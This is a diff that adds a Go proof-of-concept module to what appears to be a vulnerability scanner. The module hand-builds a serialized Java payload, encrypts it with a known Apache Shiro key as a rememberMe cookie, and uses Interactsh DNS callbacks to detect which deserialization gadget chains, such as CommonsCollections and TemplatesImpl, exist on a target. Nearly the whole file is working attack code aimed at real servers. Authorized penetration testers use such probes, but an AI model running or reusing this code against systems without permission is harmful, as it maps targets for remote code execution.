@@ -0,0 +1,211 @@
+package gopocs
+
+import (
+	"bytes"
+	"dddd/structs"
+	"encoding/base64"
+	"encoding/binary"
+	"fmt"
+	"github.com/projectdiscovery/gologger"
+	"github.com/projectdiscovery/interactsh/pkg/client"
+	"github.com/projectdiscovery/interactsh/pkg/server"
+	"github.com/projectdiscovery/retryablehttp-go"
+	"strings"
+	"sync"
+	"time"
+)
+
+// Shiro Gadget 探测：rememberMe 中放入 HashMap{URL: Class}，反序列化时先加载 Class，
+// 类不存在时抛出异常，URL 的 hashCode 不会被计算，也就不会产生DNS请求。
+// 只加载类、不实例化，不会执行任何命令。
+
+var shiroGadgets = []struct {
+	Tag   string
+	Name  string
+	Class string
+}{
+	// 基准，确认目标可以出网解析DNS
+	{"base", "URLDNS", "java.lang.String"},
+	{"cb", "CommonsBeanutils", "org.apache.commons.beanutils.BeanComparator"},
+	{"cc3", "CommonsCollections3", "org.apache.commons.collections.functors.ChainedTransformer"},
+	{"cc4", "CommonsCollections4", "org.apache.commons.collections4.functors.ChainedTransformer"},
+	{"c3p0", "C3P0", "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase"},
+	{"rome", "ROME", "com.sun.syndication.feed.impl.ObjectBean"},
+	{"groovy", "Groovy", "org.codehaus.groovy.runtime.ConvertedClosure"},
+	{"spring", "Spring", "org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider"},
+	{"aspectj", "AspectJWeaver", "org.aspectj.weaver.tools.cache.SimpleCache"},
+	{"hibernate", "Hibernate", "org.hibernate.tuple.component.AbstractComponentTuplizer"},
+	{"jdk", "TemplatesImpl", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"},
+}
+
+// 等待DNS记录的时间
+const shiroGadgetWait = 15
+
+var shiroOOB struct {
+	once   sync.Once
+	client *client.Client
+	domain string
+	lock   sync.Mutex
+	hits   map[string]bool
+}
+
+func shiroOOBInit() {
+	options := &client.Options{
+		ServerURL: client.DefaultOptions.ServerURL,
+		Token:     structs.GlobalConfig.InteractshToken,
+	}
+	if structs.GlobalConfig.InteractshURL != "" {
+		options.ServerURL = structs.GlobalConfig.InteractshURL
+	}
+	c, err := client.New(options)
+	if err != nil {
+		gologger.Error().Msgf("Shiro Gadget探测无法连接Interactsh: %v", err)
+		return
+	}
+	shiroOOB.hits = make(map[string]bool)
+	err = c.StartPolling(time.Duration(3)*time.Second, func(i *server.Interaction) {
+		gologger.AuditTimeLogger("[Go] [Shiro-Gadget] interaction %s %s from %s", i.Protocol, i.FullId, i.RemoteAddress)
+		shiroOOB.lock.Lock()
+		shiroOOB.hits[strings.ToLower(i.FullId)] = true
+		shiroOOB.lock.Unlock()
+	})
+	if err != nil {
+		gologger.Error().Msgf("Shiro Gadget探测无法连接Interactsh: %v", err)
+		c.Close()
+		return
+	}
+	shiroOOB.client = c
+	shiroOOB.domain = c.URL()
+}
+
+// shiroOOBHit 是否收到以 label 开头的DNS请求
+func shiroOOBHit(label string) bool {
+	shiroOOB.lock.Lock()
+	defer shiroOOB.lock.Unlock()
+	for fullID := range shiroOOB.hits {
+		if strings.HasPrefix(fullID, label+".") {
+			return true
+		}
+	}
+	return false
+}
+
+func shiroGadgetClose() {
+	if shiroOOB.client != nil {
+		_ = shiroOOB.client.StopPolling()
+		shiroOOB.client.Close()
+		shiroOOB.client = nil
+	}
+}
+
+func javaUTF(s string) []byte {
+	b := make([]byte, 2, 2+len(s))
+	binary.BigEndian.PutUint16(b, uint16(len(s)))
+	return append(b, s...)
+}
+
+// javaString TC_STRING，每次都写新字符串，不使用引用
+func javaString(s string) []byte {
+	return append([]byte{0x74}, javaUTF(s)...)
+}
+
+// shiroGadgetPayload 序列化 HashMap{new URL("http://host"): Class.forName(className)}
+func shiroGadgetPayload(className, host string) []byte {
+	var b bytes.Buffer
+	b.Write([]byte{0xac, 0xed, 0x00, 0x05})
+
+	// java.util.HashMap, SC_WRITE_METHOD|SC_SERIALIZABLE
+	b.Write([]byte{0x73, 0x72})
+	b.Write(javaUTF("java.util.HashMap"))
+	b.Write([]byte{0x05, 0x07, 0xda, 0xc1, 0xc3, 0x16, 0x60, 0xd1, 0x03, 0x00, 0x02})
+	b.WriteByte('F')
+	b.Write(javaUTF("loadFactor"))
+	b.WriteByte('I')
+	b.Write(javaUTF("threshold"))
+	b.Write([]byte{0x78, 0x70})
+	// loadFactor=0.75 threshold=12
+	b.Write([]byte{0x3f, 0x40, 0x00, 0x00, 0x00, 0x00, 0x00, 0x0c})
+	// writeObject: buckets=16 size=1
+	b.Write([]byte{0x77, 0x08, 0x00, 0x00, 0x00, 0x10, 0x00, 0x00, 0x00, 0x01})
+
+	// key: java.net.URL，hashCode 为 -1 时反序列化后重新计算，触发DNS解析
+	b.Write([]byte{0x73, 0x72})
+	b.Write(javaUTF("java.net.URL"))
+	b.Write([]byte{0x96, 0x25, 0x37, 0x36, 0x1a, 0xfc, 0xe4, 0x72, 0x03, 0x00, 0x07})
+	b.WriteByte('I')
+	b.Write(javaUTF("hashCode"))
+	b.WriteByte('I')
+	b.Write(javaUTF("port"))
+	for _, field := range []string{"authority", "file", "host", "protocol", "ref"} {
+		b.WriteByte('L')
+		b.Write(javaUTF(field))
+		b.Write(javaString("Ljava/lang/String;"))
+	}
+	b.Write([]byte{0x78, 0x70})
+	b.Write([]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
+	b.Write(javaString(host))
+	b.Write(javaString(""))
+	b.Write(javaString(host))
+	b.Write(javaString("http"))
+	b.Write([]byte{0x70, 0x78})
+
+	// value: Class，类描述不带 SC_SERIALIZABLE，跳过 serialVersionUID 校验
+	b.Write([]byte{0x76, 0x72})
+	b.Write(javaUTF(className))
+	b.Write([]byte{0, 0, 0, 0, 0, 0, 0, 0, 0x00, 0x00, 0x00, 0x78, 0x70})
+
+	b.WriteByte(0x78)
+	return b.Bytes()
+}
+
+// shiroGadgetProbe 使用已知Key逐个发送Gadget探测，根据DNS记录判断目标classpath中存在的Gadget
+func shiroGadgetProbe(httpClient *retryablehttp.Client, url, cookieName, shiroKey, mode string) {
+	shiroOOB.once.Do(shiroOOBInit)
+	if shiroOOB.client == nil {
+		return
+	}
+	keyDecrypt, _ := base64.StdEncoding.DecodeString(shiroKey)
+	token := strings.ToLower(Randcase(6))
+
+	for _, g := range shiroGadgets {
+		host := fmt.Sprintf("%s%s.%s", g.Tag, token, shiroOOB.domain)
+		rememberMe, err := shiroEncrypt(keyDecrypt, shiroGadgetPayload(g.Class, host), mode)
+		if err != nil {
+			return
+		}
+		gologger.AuditTimeLogger("[Go] [Shiro-Gadget] %v %v %v", url, g.Name, host)
+		sendShiroRequest(httpClient, url, cookieName, rememberMe)
+	}
+
+	time.Sleep(time.Duration(shiroGadgetWait) * time.Second)
+	baseline := shiroOOBHit(shiroGadgets[0].Tag + token)
+	var found []string
+	for _, g := range shiroGadgets[1:] {
+		if shiroOOBHit(g.Tag + token) {
+			found = append(found, g.Name)
+		}
+	}
+	if !baseline {
+		gologger.AuditTimeLogger("[Go] [Shiro-Gadget] %v 未收到DNS请求，目标可能不出网", url)
+		return
+	}
+	if len(found) == 0 {
+		gologger.AuditTimeLogger("[Go] [Shiro-Gadget] %v 未发现可用Gadget", url)
+		return
+	}
+
+	var classes []string
+	for _, g := range shiroGadgets[1:] {
+		if shiroOOBHit(g.Tag + token) {
+			classes = append(classes, fmt.Sprintf("%v: %v", g.Name, g.Class))
+		}
+	}
+	GoPocOutput(structs.GoPocsResultType{
+		PocName:     "Shiro Gadget",
+		Security:    "CRITICAL",
+		Target:      url,
+		InfoLeft:    fmt.Sprintf("Host: %v\nkey: %v\nmode: %v\ncookie: %v\n", url, shiroKey, mode, cookieName),
+		InfoRight:   strings.Join(classes, "\n"),
+		Description: "Shiro反序列化可利用的Gadget(DNS反连确认)",
+	}, fmt.Sprintf("%v [%v] [%v]", url, shiroKey, strings.Join(found, ",")))
+}